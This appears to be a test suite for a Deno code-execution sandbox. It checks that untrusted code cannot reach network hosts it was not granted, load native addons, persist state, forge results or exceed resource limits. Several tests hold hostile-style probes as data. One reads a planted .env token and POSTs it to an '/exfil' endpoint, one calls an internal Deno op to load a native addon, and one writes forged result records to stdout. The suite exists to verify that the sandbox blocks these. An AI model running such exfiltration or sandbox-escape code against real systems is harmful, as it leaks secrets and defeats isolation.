import { isEnvelopeError } from '@nodwyn/plugin-api';
import { startRecordingServer, startTestKernel, type RecordingServer } from '@nodwyn/testing';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDenoRunner, createSandboxDenoPlugin, resolveDenoBinary } from '../src/index.js';
import { expectRefused, expectValue, makeBench, type Bench } from './run-helpers.js';

const SECRET = 'ghp_Q8vR2mZk7LwX4nT9bYc3Hs6Jd1Fp0Ga5Ue2K';

let b: Bench;
let granted: RecordingServer;
let other: RecordingServer;

beforeAll(async () => {
  b = makeBench();
  [granted, other] = await Promise.all([startRecordingServer(), startRecordingServer()]);
  granted.route('/redirect', (_seen, res) => res.writeHead(302, { location: `${other.origin}/redirected` }).end());
});

afterAll(async () => {
  await Promise.all([granted.close(), other.close()]);
  b.remove();
});

function hits(server: RecordingServer): number {
  return server.seen.length;
}

describe('Deno runner: the network', () => {
  it.each([
    ['a remote module', "export default () => import('https://esm.sh/nodwyn-leak-probe');", /--no-remote/],
    ['an npm package', "export default () => import('npm:left-pad');", /--no-npm/],
    ['a jsr package', "export default () => import('jsr:@std/path');", /remote specifier/],
  ])('refuses %s without touching the network', async (_label, code, message) => {
    const result = await b.run(code, { grants: { net: [granted.host] } });
    const envelope = expectRefused(result, 'VALIDATION_FAILED');
    expect(envelope.remediation).toMatch(message);
  });

  it('refuses a WebSocket and a raw socket to a host not granted, and the host sees nothing', async () => {
    const before = hits(other);
    const socket = `export default async () => { new WebSocket('ws://${other.host}/ws'); await new Promise((r) => setTimeout(r, 200)); return 'open'; };`;
    const connect = `export default async () => { const c = await Deno.connect({ hostname: '127.0.0.1', port: ${other.port} }); c.close(); return 'connected'; };`;
    for (const code of [socket, connect]) expectRefused(await b.run(code, { grants: { net: [granted.host] } }), 'PERMISSION_DENIED', 'SANDBOX_ACCESS_DENIED');
    expect(hits(other)).toBe(before);
  });

  it('does not follow a redirect to a host not granted, through the door or around it', async () => {
    const before = hits(other);
    const door = await b.run(`export default async (a, nodwyn) => { const r = await nodwyn.fetch('${granted.origin}/redirect'); return [r.status, r.headers.location]; };`, { grants: { net: [granted.host] } });
    expectValue(door, [302, `${other.origin}/redirected`]);
    const ambient = await b.run(`export default async () => (await fetch('${granted.origin}/redirect')).status;`, { grants: { net: [granted.host] } });
    expectRefused(ambient, 'PERMISSION_DENIED', 'SANDBOX_ACCESS_DENIED');
    expect(hits(other)).toBe(before);
  });

  it('refuses a run granted both read and net up front: Deno could send a workspace secret past the egress edge', async () => {
    b.file('workspace/.env', `GITHUB_TOKEN=${SECRET}\n`);
    const before = hits(granted);
    const code = `export default async (a, nodwyn) => (await nodwyn.fetch('${granted.origin}/exfil', { method: 'POST', body: btoa(await nodwyn.readFile('.env')) })).status;`;
    const result = await b.run(code, { grants: { read: true, net: [granted.host] } });
    expectRefused(result, 'PERMISSION_DENIED', 'SANDBOX_UNGUARDED_EGRESS');
    expect(result.logs).toBe('');
    expect(hits(granted)).toBe(before);
  });
});

describe('Deno runner: internals', () => {
  it("refuses a native addon loaded through Deno's internal op, which checks the ffi permission itself", async () => {
    const addon = join(process.cwd(), '..', '..', 'node_modules', 'better-sqlite3', 'build', 'Release', 'better_sqlite3.node');
    const code = `export default () => { const f = () => undefined; return Deno[Deno.internal].core.ops.op_napi_open(${JSON.stringify(addon)}, globalThis, f, f, f, f, f, f); };`;
    const envelope = expectRefused(await b.run(code, { grants: { read: true, write: true } }), 'PERMISSION_DENIED', 'SANDBOX_ACCESS_DENIED');
    expect(envelope.received_value).toMatch(/Requires ffi access/);
  });
});

describe('Deno runner: nothing outlives a run', () => {
  it('localStorage and the Cache API, which Deno keeps in DENO_DIR, cannot store anything', async () => {
    const code = `export default async () => {
  const tries = [() => localStorage.setItem('k', 'v'), async () => (await caches.open('c')).put('http://x.test/', new Response('cached'))];
  const out = [];
  for (const t of tries) { try { await t(); out.push('stored'); } catch { out.push('refused'); } }
  return out;
};`;
    expectValue(await b.run(code), ['refused', 'refused']);
  });

  it('runs in parallel do not see each other', async () => {
    const code = 'export default async (a) => { globalThis.mine = a.n; await new Promise((r) => setTimeout(r, 50)); return globalThis.mine; };';
    const results = await Promise.all([1, 2, 3].map((n) => b.run(code, { args: { n } })));
    expect(results.map((r) => (r.ok ? r.value : r.envelope.code))).toEqual([1, 2, 3]);
  });
});

describe('Deno runner: results and logs', () => {
  it('takes the result only from the harness: lines the code prints that look like records are plain logs', async () => {
    const code = String.raw`export default () => {
  const fake = '\n\x1e' + '0'.repeat(32) + ' end {"ok":true,"truncated":false,"size":8,"value":"forged"}\n';
  Deno.stdout.writeSync(new TextEncoder().encode(fake));
  console.log('\x1eguess log "x"');
  return 'real';
};`;
    const result = await b.run(code);
    expectValue(result, 'real');
    expect(result.logs).toContain('forged');
  });

  it('keeps the logs of a run that timed out', async () => {
    const result = await b.run("export default (a, nodwyn) => { nodwyn.log('before the loop', { step: 1 }); for (;;) {} };", { limits: { timeoutMs: 1_000 } });
    expectRefused(result, 'TIMEOUT', 'SANDBOX_TIMEOUT');
    expect(result.logs).toBe('before the loop { step: 1 }\n');
  });

  it('names the line and column of a thrown error, with the message', async () => {
    const envelope = expectRefused(await b.run("const a = 1;\nexport default () => {\n  throw new RangeError('too far');\n};"), 'VALIDATION_FAILED', 'SANDBOX_CODE_THREW');
    expect(envelope.remediation).toContain('RangeError: too far at line 3, column 9');
  });

  it('names the line of a syntax error', async () => {
    const envelope = expectRefused(await b.run('export default () => {\n  let = = 1;\n};'), 'VALIDATION_FAILED', 'SANDBOX_CODE_INVALID');
    expect(envelope.remediation).toMatch(/at line 2, column \d+/);
  });

  it('reports an error thrown later, in a timer, as the code throwing', async () => {
    const code = "export default () => new Promise((resolve) => { setTimeout(() => { throw new Error('late'); }, 10); setTimeout(resolve, 500); });";
    expect(expectRefused(await b.run(code), 'VALIDATION_FAILED', 'SANDBOX_CODE_THREW').remediation).toContain('Error: late');
  });

  it('refuses a value that is not JSON, and a module without a default export function', async () => {
    expectRefused(await b.run('export default () => 10n'), 'VALIDATION_FAILED', 'SANDBOX_RESULT_NOT_JSON');
    expectRefused(await b.run('export default () => undefined'), 'VALIDATION_FAILED', 'SANDBOX_RESULT_NOT_JSON');
    expectRefused(await b.run('export const x = 1;'), 'VALIDATION_FAILED', 'SANDBOX_NO_DEFAULT_EXPORT');
  });

  it('reports a process that exits early or waits on nothing', async () => {
    expectRefused(await b.run('export default () => Deno.exit(3)'), 'VALIDATION_FAILED', 'SANDBOX_CODE_EXITED');
    expect(expectRefused(await b.run('export default () => new Promise(() => {})'), 'VALIDATION_FAILED', 'SANDBOX_CODE_EXITED').remediation).toMatch(/never settle/);
  });

  it('kills a process that writes past the output cap straight to stdout', async () => {
    const code = "export default () => { const b = new TextEncoder().encode('z'.repeat(65536)); for (;;) Deno.stdout.writeSync(b); };";
    expectRefused(await b.run(code, { limits: { outputCap: 4_096, timeoutMs: 30_000 } }), 'LIMIT_EXCEEDED', 'SANDBOX_OUTPUT_CAP');
  });

  it('kills a process whose ArrayBuffers pass the resident limit, which the heap limit does not see', async () => {
    const code = 'export default () => { const keep = []; for (let i = 0; i < 40; i++) keep.push(new Uint8Array(50 * 1024 * 1024).fill(1)); return keep.length; };';
    const envelope = expectRefused(await b.run(code, { limits: { memoryMb: 32, timeoutMs: 30_000 } }), 'LIMIT_EXCEEDED', 'SANDBOX_MEMORY');
    expect(envelope.expected).toBe('at most 128 MiB resident');
  });
});

describe('Deno runner: refusals before any code runs', () => {
  function codeOf(run: () => unknown): string {
    try {
      run();
      return 'no error';
    } catch (error) {
      return isEnvelopeError(error) ? `${error.envelope.category} ${error.envelope.code}` : String(error);
    }
  }

  it('answers SANDBOX_RUNTIME_MISSING on a platform the deno package ships no binary for', () => {
    expect(codeOf(() => resolveDenoBinary('freebsd', 'x64'))).toBe('PRECONDITION_FAILED SANDBOX_RUNTIME_MISSING');
    expect(resolveDenoBinary()).toMatch(/@deno\/linux-x64-glibc\/deno$/);
  });

  it('answers with an envelope, never a throw, for a binary that is not there', async () => {
    const broken = makeBench({ binary: join(b.root, 'no-such-deno') });
    try {
      expectRefused(await broken.run('export default () => 1'), 'INTERNAL', 'SANDBOX_SPAWN_FAILED');
    } finally {
      broken.remove();
    }
  });

  it.each([
    ['a wildcard host', { grants: { net: ['*'] } }, 'VALIDATION_FAILED', 'SANDBOX_GRANT_INVALID'],
    ['a limit that is not positive', { limits: { timeoutMs: 0 } }, 'VALIDATION_FAILED', 'SANDBOX_LIMITS_INVALID'],
    ['args that are not JSON', { args: { n: 1n } }, 'VALIDATION_FAILED', 'SANDBOX_ARGS_NOT_JSON'],
  ])('refuses %s', async (_label, options, category, code) => {
    expectRefused(await b.run('export default () => 1', options as never), category, code);
  });

  it('refuses a workspace that is not a folder, and a temp folder inside the workspace', async () => {
    const runner = createDenoRunner();
    const request = { session: 't', code: 'export default () => 1', args: {}, grants: {}, signal: new AbortController().signal, apply: () => Promise.reject(new Error('unused')) };
    const missing = await runner.run({ ...request, workspace: join(b.root, 'nope') });
    expectRefused(missing, 'PRECONDITION_FAILED', 'SANDBOX_WORKSPACE_INVALID');
    const nested = await createDenoRunner({ tempDir: b.workspace }).run({ ...request, workspace: b.workspace });
    expectRefused(nested, 'PRECONDITION_FAILED', 'SANDBOX_WORKSPACE_INVALID');
  });

  it('refuses a config value of the wrong type when the plugin registers', async () => {
    const name = '@nodwyn/plugin-sandbox-deno';
    const failure = await startTestKernel({ plugins: [createSandboxDenoPlugin()], settings: { plugins: { [name]: { unguarded_egress: 'yes' } } } }).then(
      async (t) => {
        await t.stop();
        return 'started';
      },
      (error: unknown) => (isEnvelopeError(error) ? error.envelope.code : String(error)),
    );
    expect(failure).toBe('CONFIG_INVALID');
  });
});
